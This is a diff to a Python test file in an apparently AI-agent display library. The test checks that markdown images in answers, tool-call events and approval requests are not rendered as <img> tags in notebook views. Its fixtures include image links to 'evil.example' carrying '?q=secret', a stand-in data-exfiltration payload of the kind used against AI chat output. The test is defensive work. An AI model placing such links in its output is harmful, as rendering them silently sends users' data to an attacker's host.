@@ -14,7 +14,7 @@ from rich.text import Text
 
 from ahora.answer import Answer
 from ahora.cli.console import SafeConsole
-from ahora.events import Token
+from ahora.events import ApprovalRequested, Token, ToolCalled, ToolFinished
 from ahora.safe_text import clean, is_clean, json_text, no_images
 
 # Every way text can act on a terminal instead of being shown.
@@ -122,7 +122,16 @@ def test_notebook_views_of_answers_and_tokens_load_no_images() -> None:
     answer = Answer(text="See ![chart](https://evil.example/c.png?q=secret)", sources=[source])  # type: ignore[list-item]
     assert "<img" not in HTML.render(answer._repr_markdown_())
     assert "https://evil.example/c.png" in HTML.render(answer._repr_markdown_())
-    assert "<img" not in HTML.render(Token("![a](https://evil.example/t.png)")._repr_markdown_())
+    image = "![a](https://evil.example/t.png)"
+    events = [
+        Token(image),
+        ToolCalled("c1", "read_page", {"url": image}),
+        ToolFinished("c1", "read_page", f"page {image} text"),
+        ToolFinished("c1", "read_page", "", error=image),
+        ApprovalRequested("c2", "send", {"to": image}),
+    ]
+    for event in events:
+        assert "<img" not in HTML.render(event._repr_markdown_()), event
     assert no_images("plain **text**, a [link](https://x.example) and a ! mark") == (
         "plain **text**, a [link](https://x.example) and a ! mark"
     )
